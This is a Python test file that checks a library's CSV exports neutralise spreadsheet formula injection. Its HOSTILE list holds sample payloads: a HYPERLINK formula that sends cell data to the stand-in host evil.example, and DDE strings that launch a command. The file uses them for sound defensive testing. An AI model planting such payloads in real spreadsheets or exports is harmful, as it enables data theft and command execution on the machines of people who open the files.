"""CSV files written for people never carry a live spreadsheet formula: a cell (input, output
or column name) starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading ``'`` in ``EvalReport.save("x.csv")``, ``flownb eval --out x.csv`` and ``flownb run
--out x.csv``; ``safe_csv=False`` / ``--raw-csv`` keep the raw text for pipelines."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd

import flownb
from flownb import scorers as S
from flownb.show.spreadsheet import FORMULA_START, csv_text
from tests.cli_inprocess import CliResult, run_cli
from tests.conftest import make_flow, write_flow

# Each starts a formula somewhere (the last two are a tab and a carriage return).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ECHO = make_flow({"say": "{text}"}, ["text"])  # offline: the output is the text itself


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read(path: Path) -> str:
    return path.read_bytes().decode("utf-8")  # read_text would turn a cell's "\r" into "\n"


def live_formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def flownb_cli(*args: str, cwd: Path) -> CliResult:
    return run_cli(*args, cwd=cwd)


def test_csv_text_neutralises_text_cells_and_names_only() -> None:
    df = pd.DataFrame({"=name": ["=1+1", "plain", None], "n": [-1, 2, 3]})
    rows = cells(csv_text(df))
    assert rows[0] == ["'=name", "n"]
    assert rows[1] == ["'=1+1", "-1"]  # a number is not text: kept
    assert rows[2] == ["plain", "2"] and rows[3] == ["", "3"]
    assert cells(csv_text(df, safe=False))[1] == ["=1+1", "-1"]


def test_report_csv_neutralises_inputs_and_outputs(tmp_path: Path) -> None:
    flow = flownb.load_flow(ECHO, provider="offline")
    data = pd.DataFrame({"text": HOSTILE})
    report = flownb.evaluate(flow, data, [S.length("say")], progress=False, log=False)
    rows = cells(read(report.save(tmp_path / "r.csv")))
    assert live_formulas(rows) == []
    header = rows[0]
    said = [row[header.index("say")] for row in rows[1:]]
    assert said == ["'" + h for h in HOSTILE]  # nothing lost: only the quote added
    raw = cells(read(report.save(tmp_path / "raw.csv", safe_csv=False)))
    assert [row[header.index("say")] for row in raw[1:]] == HOSTILE


def test_cli_eval_and_run_out_csv_are_neutralised_unless_raw(tmp_path: Path) -> None:
    flow = write_flow(tmp_path / "echo.json", ECHO)
    rows_csv = csv_text(pd.DataFrame({"text": HOSTILE}), safe=False)  # raw: these are inputs
    (tmp_path / "rows.csv").write_bytes(rows_csv.encode("utf-8"))
    (tmp_path / "eval.toml").write_text(
        '[[scorers]]\ntype = "contains"\noutput = "say"\ntext = "1"\n', encoding="utf-8"
    )
    common = ["--data", "rows.csv", "--scorers", "eval.toml", "--no-progress"]
    res = flownb_cli("eval", str(flow), *common, "--out", "e.csv", cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    assert live_formulas(cells(read(tmp_path / "e.csv"))) == []

    res = flownb_cli("run", str(flow), "--csv", "rows.csv", "--out", "r.csv", cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    rows = cells(read(tmp_path / "r.csv"))
    assert live_formulas(rows) == [] and len(rows) == len(HOSTILE) + 1
    res = flownb_cli("run", str(flow), "--var", "text=@SUM(A1)", "--out", "one.csv", cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    assert cells(read(tmp_path / "one.csv"))[1] == ["'@SUM(A1)"] * 2

    args = ["--csv", "rows.csv", "--out", "raw.csv", "--raw-csv"]
    res = flownb_cli("run", str(flow), *args, cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    raw = cells(read(tmp_path / "raw.csv"))
    assert [row[raw[0].index("say")] for row in raw[1:]] == HOSTILE
